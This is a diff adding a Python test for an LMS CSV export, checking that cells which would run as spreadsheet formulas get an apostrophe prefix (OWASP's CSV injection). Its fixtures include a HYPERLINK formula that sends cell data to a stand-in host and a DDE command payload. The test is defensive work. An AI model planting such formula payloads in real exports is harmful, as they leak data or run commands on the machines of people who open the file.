@@ -62,3 +62,19 @@ def test_a_spreadsheet_cell_typed_as_a_formula_stays_text():
     sheet = load_workbook(io.BytesIO(xlsx_bytes(["Name"], [['=HYPERLINK("http://x.example/?"&A1)'], ["Әсем"]]))).active
     assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
     assert sheet["A3"].value == "Әсем"
+
+
+def test_a_csv_cell_that_would_run_as_a_formula_is_written_as_text():
+    """The same in a CSV download (OWASP's CSV injection): a leading apostrophe, so Excel shows
+    the text; names, numbers and negative numbers are untouched."""
+    import csv
+    import io
+
+    from lms.core.services.exports import csv_bytes
+
+    rows = [['=HYPERLINK("http://x.example/?"&A1)'], ["@SUM(A1)"], ["+cmd|' /C calc'!A0"], ["Әсем"], ["-5"],
+            [-2.5], [None], ["- бос"]]
+    text = csv_bytes(["Name"], rows).decode("utf-8-sig")
+    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
+    assert cells == ['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(A1)", "'+cmd|' /C calc'!A0", "Әсем", "-5",
+                     "-2.5", "", "'- бос"]
